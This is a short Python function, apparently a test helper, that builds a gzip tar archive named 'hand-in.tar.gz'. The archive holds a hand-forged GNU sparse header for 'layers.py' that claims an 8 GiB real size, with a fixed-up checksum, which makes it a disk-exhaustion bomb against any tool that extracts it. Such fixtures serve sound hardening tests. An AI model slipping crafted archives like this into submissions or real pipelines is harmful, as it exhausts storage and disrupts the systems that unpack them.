import gzip
import tarfile


def build(folder, files, bait):
    path = folder / "hand-in.tar.gz"
    with gzip.open(path, "wb", 1) as stream:
        entry = bytearray(header("layers.py", tarfile.GNUTYPE_SPARSE, 0, tarfile.GNU_FORMAT))
        entry[483:495] = b"%011o\0" % (8 << 30)
        entry[148:156] = b" " * 8
        entry[148:156] = b"%06o\0 " % sum(entry)
        stream.write(entry + bytes(1024))
    return path
